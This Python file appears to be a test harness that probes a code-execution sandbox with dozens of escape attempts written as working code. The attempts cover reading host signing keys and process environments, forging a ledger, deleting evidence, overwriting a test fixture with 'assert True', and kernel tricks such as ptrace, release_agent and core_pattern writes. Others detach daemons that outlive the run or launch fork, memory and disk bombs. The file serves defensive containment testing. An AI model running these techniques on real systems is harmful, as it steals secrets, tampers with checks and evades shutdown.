"""Attempts to get out of the sandbox, run inside it as `python3 attempts.py NAME FACTS`.

Each function tries one thing against the host whose facts it is given (paths,
ports, process ids) and returns a true value when it got what it wanted. The
last line printed is `ESCAPED`, or `refused: ` and what stopped it. Standard
library only: this file is copied into the workspace.
"""

# An attacker's program: it prints its findings and makes bare system calls.
# ruff: noqa: PTH101, PTH102, PTH103, PTH106, PTH108, PTH112, PTH118, PTH208, PTH211
# ruff: noqa: T201, S103, S606, SIM115, BLE001, FURB122

from __future__ import annotations

import ctypes
import json
import mmap
import os
import platform
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

Facts = dict[str, Any]
MIB = 1 << 20
_LIBC = ctypes.CDLL(None, use_errno=True)
_CALLS = {  # x86_64, aarch64
    "ptrace": (101, 117),
    "unshare": (272, 97),
    "setns": (308, 268),
    "clone3": (435, 435),
    "mount": (165, 40),
    "keyctl": (250, 219),
    "shmget": (29, 194),
    "io_uring_setup": (425, 425),
    "syslog": (103, 116),
    "process_vm_readv": (310, 270),
    "sethostname": (170, 161),
    "bpf": (321, 280),
    "userfaultfd": (323, 282),
}
_NEW_USER = 0x10000000


def _call(name: str, *arguments: Any) -> int:
    number = _CALLS[name][platform.machine() == "aarch64"]
    # As unsigned longs: a bare int would be cut to 32 bits.
    longs = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result: int = _LIBC.syscall(ctypes.c_long(number), *longs)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


# ── the network ──────────────────────────────────────────────────────────────


def tcp_to_host(host: Facts) -> bool:
    with socket.create_connection(("127.0.0.1", host["tcp_port"]), timeout=2) as link:
        link.sendall(b"hello")
    return True


def udp_to_host(host: Facts) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect(("127.0.0.1", host["udp_port"]))
        return link.send(b"hello") == 0  # whether it arrived is for the host to say


def tcp_to_the_internet(_: Facts) -> bool:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    return True


def tcp6_to_the_internet(_: Facts) -> bool:
    socket.create_connection(("2606:4700:4700::1111", 53), timeout=2).close()
    return True


def resolve_a_name(_: Facts) -> bool:
    return bool(socket.getaddrinfo("example.com", 80))


def abstract_socket_of_host(host: Facts) -> bool:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect("\0" + host["abstract_name"])
    return True


def path_socket_of_host(host: Facts) -> bool:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(host["socket_path"])
    return True


def vsock_to_hypervisor(_: Facts) -> bool:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as link:
        link.settimeout(1)
        link.connect_ex((2, 1))
    return True


def packet_socket(_: Facts) -> bool:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    return True


def netlink_socket(_: Facts) -> bool:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return True


def join_network_of_process_1(_: Facts) -> bool:
    with Path("/proc/1/ns/net").open("rb") as namespace:
        _call("setns", namespace.fileno(), 0)
    return True


# ── files of the host ────────────────────────────────────────────────────────


def read_the_signing_key(host: Facts) -> bool:
    print(Path(host["key"]).read_text("ascii"))
    return True


def list_the_home(host: Facts) -> bool:
    return bool(os.listdir(host["home"]))


def append_to_the_ledger(host: Facts) -> bool:
    with Path(host["ledger"]).open("a", encoding="ascii") as file:
        file.write("forged\n")
    return True


def delete_the_evidence(host: Facts) -> bool:
    Path(host["evidence"]).unlink()
    return True


def overwrite_the_fixture(host: Facts) -> bool:
    Path(host["fixture"]).write_text("assert True\n", "ascii")
    return True


def climb_out_of_the_workspace(_: Facts) -> bool:
    print(Path("../secrets/signing.key").read_text("ascii"))
    return True


def read_key_through_symlink(host: Facts) -> bool:
    os.symlink(host["key"], "link")
    print(Path("link").read_text("ascii"))
    return True


def hard_link_the_key(host: Facts) -> bool:
    os.link(host["key"], "hard")
    print(Path("hard").read_text("ascii"))
    return True


def leave_a_symlink_for_the_host_to_read(host: Facts) -> bool:
    os.symlink(host["key"], "solution.py")
    return False


def leave_a_relative_symlink_chain(_: Facts) -> bool:
    os.makedirs("a/b")
    os.symlink("../..", "a/b/top")
    os.symlink("a/b/top/../secrets/signing.key", "solution.py")
    return False


def swap_a_folder_for_a_symlink(host: Facts) -> bool:
    shutil.rmtree("src")
    os.symlink(str(Path(host["ledger"]).parent), "src")
    return False


def leave_a_setuid_program(_: Facts) -> bool:
    shutil.copy("/bin/sh", "sh")
    os.chmod("sh", 0o6755)
    return False


def leave_a_fifo(_: Facts) -> bool:
    os.mkfifo("solution.py")
    return False


def write_to_usr(_: Facts) -> bool:
    Path("/usr/bin/abverify-escape").write_text("x", "ascii")
    return True


def write_to_the_toolchain(_: Facts) -> bool:
    Path(os.__file__).with_name("abverify_escape.py").write_text("x", "ascii")
    return True


def write_to_the_root(_: Facts) -> bool:
    Path("/escape").write_text("x", "ascii")
    return True


def write_to_dev(_: Facts) -> bool:
    Path("/dev/escape").write_text("x", "ascii")
    return True


def write_to_the_running_interpreter(_: Facts) -> bool:
    with Path("/proc/self/exe").open("r+b"):
        return True


def write_to_its_own_stdin(_: Facts) -> bool:
    with Path("/proc/self/fd/0").open("r+b") as given:
        return bool(given.write(b"x"))


def use_a_leaked_descriptor(_: Facts) -> bool:
    mine = os.open("/proc/self/fd", os.O_RDONLY)
    return bool({int(name) for name in os.listdir(mine)} - {0, 1, 2, mine, mine + 1})


def read_kernel_devices(_: Facts) -> bool:
    return bool(set(os.listdir("/dev")) & {"kmsg", "mem", "port", "kvm", "fuse", "vda", "sda"})


def read_sysfs(_: Facts) -> bool:
    return bool(os.listdir("/sys"))


def write_a_cgroup_release_agent(_: Facts) -> bool:
    Path("/sys/fs/cgroup/release_agent").write_text("/escape", "ascii")
    return True


def write_a_sysctl(_: Facts) -> bool:
    Path("/proc/sys/kernel/core_pattern").write_text("|/escape", "ascii")
    return True


def find_the_key_anywhere(_: Facts) -> bool:
    for folder, folders, files in os.walk("/"):
        folders[:] = [
            name for name in folders if os.path.join(folder, name) not in {"/proc", "/usr"}
        ]
        if "signing.key" in files:
            return True
    return False


# ── processes of the host ────────────────────────────────────────────────────


def kill_a_host_process(host: Facts) -> bool:
    os.kill(host["victim"], signal.SIGKILL)
    return True


def kill_every_process(host: Facts) -> bool:
    os.kill(-1, signal.SIGKILL)
    os.kill(host["victim"], 0)
    return True


def kill_the_parent(_: Facts) -> bool:
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(0.1)
    return os.getppid() == 0


def look_into_host_root(host: Facts) -> bool:
    print(Path(f"/proc/{host['victim']}/root{host['key']}").read_text("ascii"))
    return True


def read_host_environment(host: Facts) -> bool:
    print(Path(f"/proc/{host['victim']}/environ").read_text("ascii"))
    return True


def read_every_environment(host: Facts) -> bool:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        if host["token_name"].encode() in found:
            print(found)
            return True
    return False


def trace_a_process(host: Facts) -> bool:
    seize = 0x4206
    _call("ptrace", seize, host["victim"], 0, 0)
    return True


def trace_a_sibling(_: Facts) -> bool:
    sibling = subprocess.Popen(["sleep", "5"])
    try:
        _call("ptrace", 0x4206, sibling.pid, 0, 0)
    finally:
        sibling.kill()
    return True


def read_memory_of_a_sibling(_: Facts) -> bool:
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    sibling = os.fork()  # has its own buffer at the same address
    if sibling == 0:
        time.sleep(5)
        os._exit(0)
    try:
        return _call("process_vm_readv", sibling, vector, 1, vector, 1, 0) == len(buffer)
    finally:
        os.kill(sibling, signal.SIGKILL)


def type_into_the_terminal(_: Facts) -> bool:
    import fcntl

    tiocsti = 0x5412
    controller, terminal = os.openpty()
    fcntl.ioctl(terminal, tiocsti, b"x")
    return bool(controller)


def open_the_terminal(_: Facts) -> bool:
    with Path("/dev/tty").open("r+b", buffering=0):
        return True


# ── privileges and the kernel ────────────────────────────────────────────────


def become_root(_: Facts) -> bool:
    os.setuid(0)
    return os.getuid() == 0


def run_a_setuid_program(_: Facts) -> bool:
    shell = Path("/tmp/sh")
    shutil.copy("/bin/sh", shell)
    os.chown(shell, 0, 0)
    os.chmod(shell, 0o4755)
    return subprocess.run([shell, "-c", "id -u"], capture_output=True, check=False).stdout == b"0\n"


def make_a_user_namespace(_: Facts) -> bool:
    _call("unshare", _NEW_USER)
    return True


def clone_into_a_user_namespace(_: Facts) -> bool:
    number = {"x86_64": 56, "aarch64": 220}[platform.machine()]
    child = _LIBC.syscall(number, ctypes.c_long(_NEW_USER | signal.SIGCHLD), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child < 0:
        raise OSError(ctypes.get_errno(), "clone")
    os.waitpid(child, 0)
    return True


def clone3_into_a_user_namespace(_: Facts) -> bool:
    arguments = ctypes.create_string_buffer(struct.pack("<8Q", _NEW_USER, *[0] * 3, 17, *[0] * 3))
    child = _call("clone3", arguments, 64)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return True


def remount_writable(_: Facts) -> bool:
    remount_bind = 0x20 | 0x1000
    _call("mount", 0, b"/usr", 0, remount_bind, 0)
    return True


def mount_a_tmpfs(_: Facts) -> bool:
    os.mkdir("mounted")
    _call("mount", b"tmpfs", b"mounted", b"tmpfs", 0, 0)
    return True


def make_a_disk_device(_: Facts) -> bool:
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return True


def change_root(_: Facts) -> bool:
    os.chroot(".")
    return True


def rename_the_host(_: Facts) -> bool:
    _call("sethostname", b"escaped", 7)
    return True


def read_the_keyring(_: Facts) -> bool:
    get_id, session = 0, -3
    return _call("keyctl", get_id, session, 0) > 0


def read_the_kernel_log(_: Facts) -> bool:
    read_all = 3
    return _call("syslog", read_all, ctypes.create_string_buffer(4096), 4096) > 0


def system_v_shared_memory(_: Facts) -> bool:
    return _call("shmget", 0, 4096, 0o1600) >= 0


def set_up_io_uring(_: Facts) -> bool:
    return _call("io_uring_setup", 1, ctypes.create_string_buffer(120)) >= 0


def load_a_bpf_program(_: Facts) -> bool:
    map_create = 0
    attributes = ctypes.create_string_buffer(struct.pack("<4I", 2, 4, 4, 1), 128)
    return _call("bpf", map_create, attributes, 72) >= 0


def hide_memory_in_a_memfd(_: Facts) -> bool:
    return os.memfd_create("hoard") >= 0


# ── outliving the run ────────────────────────────────────────────────────────


def leave_a_background_process(host: Facts) -> bool:
    subprocess.Popen(["sleep", host["mark"]])
    return False


def leave_a_daemon(host: Facts) -> bool:
    for _index in range(2):  # the double fork, each time in a session of its own
        detached, tell = os.pipe()
        if os.fork():
            os.close(tell)
            os.read(detached, 1)
            os._exit(0)
        os.setsid()
        os.close(detached)
        os.close(tell)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    os.execvp("sleep", ["sleep", host["mark"]])


def refuse_to_end(host: Facts) -> bool:
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            continue
    os.execvp("sleep", ["sleep", host["mark"]])


def keep_forking(host: Facts) -> bool:
    """Hops from child to child, so that a kill aimed at one process id misses."""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if os.fork():
            os._exit(0)
        os.setsid()
        time.sleep(0.002)
    os.execvp("sleep", ["sleep", host["mark"]])


# ── exhaustion ───────────────────────────────────────────────────────────────


def fork_bomb(host: Facts) -> bool:
    for _index in range(1000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    return bool(host)


def fork_bomb_that_never_waits(_: Facts) -> bool:
    while True:
        try:
            os.fork()
        except OSError:
            continue


def thread_bomb(_: Facts) -> bool:
    for _index in range(1000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return True


def memory_bomb(_: Facts) -> bool:
    hoard = [bytearray(16 * MIB) for _index in range(64)]
    return len(hoard) > 0


def memory_bomb_of_many_processes(_: Facts) -> bool:
    for _index in range(8):
        if os.fork() == 0:
            hoard = bytearray(64 * MIB)
            hoard[::4096] = b"x" * len(hoard[::4096])
            time.sleep(30)
            os._exit(0)
    time.sleep(30)
    return True


def shared_memory_bomb(_: Facts) -> bool:
    hoard = []
    for _index in range(64):
        block = mmap.mmap(-1, 16 * MIB)
        for offset in range(0, len(block), 4096):
            block[offset] = 1
        hoard.append(block)
    return True


def dev_shm_bomb(_: Facts) -> bool:
    return all(_pour(Path(f"/dev/shm/{index}")) for index in range(64))


def fill_the_workspace(_: Facts) -> bool:
    return all(_pour(Path(f"{index}.bin")) for index in range(64))


def fill_the_scratch(_: Facts) -> bool:
    return all(_pour(Path(f"/tmp/{index}.bin")) for index in range(64))


def fill_the_disk_with_deleted_files(_: Facts) -> bool:
    held = []
    for index in range(64):
        file = Path(f"{index}.bin").open("wb", buffering=0)
        Path(f"{index}.bin").unlink()
        held.append(file)
        for _index in range(4):
            if file.write(b"x" * MIB) < MIB:
                raise OSError(28, "short write")
    return True


def fill_the_host_with_sparse_files(_: Facts) -> bool:
    for index in range(64):
        with Path(f"{index}.bin").open("wb") as file:
            file.truncate(8 * MIB)
    return False


def fill_the_host_with_empty_files(_: Facts) -> bool:
    for index in range(21_000):
        os.close(os.open(f"{index}", os.O_CREAT | os.O_WRONLY))
    return False


def bury_the_host_in_folders(_: Facts) -> bool:
    for _index in range(1500):
        os.mkdir("d")
        os.chdir("d")
    return False


def write_one_huge_file(_: Facts) -> bool:
    with Path("/tmp/huge").open("wb", buffering=0) as file:
        for _index in range(64):
            file.write(b"x" * MIB)
    return True


def print_for_ever(_: Facts) -> bool:
    while True:
        os.write(1, b"x" * 65536)


def spin_for_ever(_: Facts) -> bool:
    for _index in range(3):
        if os.fork() == 0:
            break
    while True:
        pass


def delete_the_workspace(_: Facts) -> bool:
    for name in os.listdir("."):
        shutil.rmtree(name) if os.path.isdir(name) else os.unlink(name)
    os.rmdir("/workspace")
    return True


def lock_the_workspace(_: Facts) -> bool:
    os.chmod("src", 0)
    os.chmod(".", 0)
    return False


def _pour(path: Path) -> bool:
    with path.open("wb", buffering=0) as file:
        for _index in range(4):
            if file.write(b"x" * MIB) < MIB:
                raise OSError(28, "short write")
    return True


def main() -> None:
    attempt: Callable[[Facts], bool] = globals()[sys.argv[1]]
    try:
        escaped = attempt(json.loads(sys.argv[2]))
    except BaseException as error:
        number = getattr(error, "errno", None)
        name = type(error).__name__
        print(f"refused: {name} {number}" if number is not None else f"refused: {name}")
    else:
        print("ESCAPED" if escaped else "refused: nothing gained")


if __name__ == "__main__":
    main()
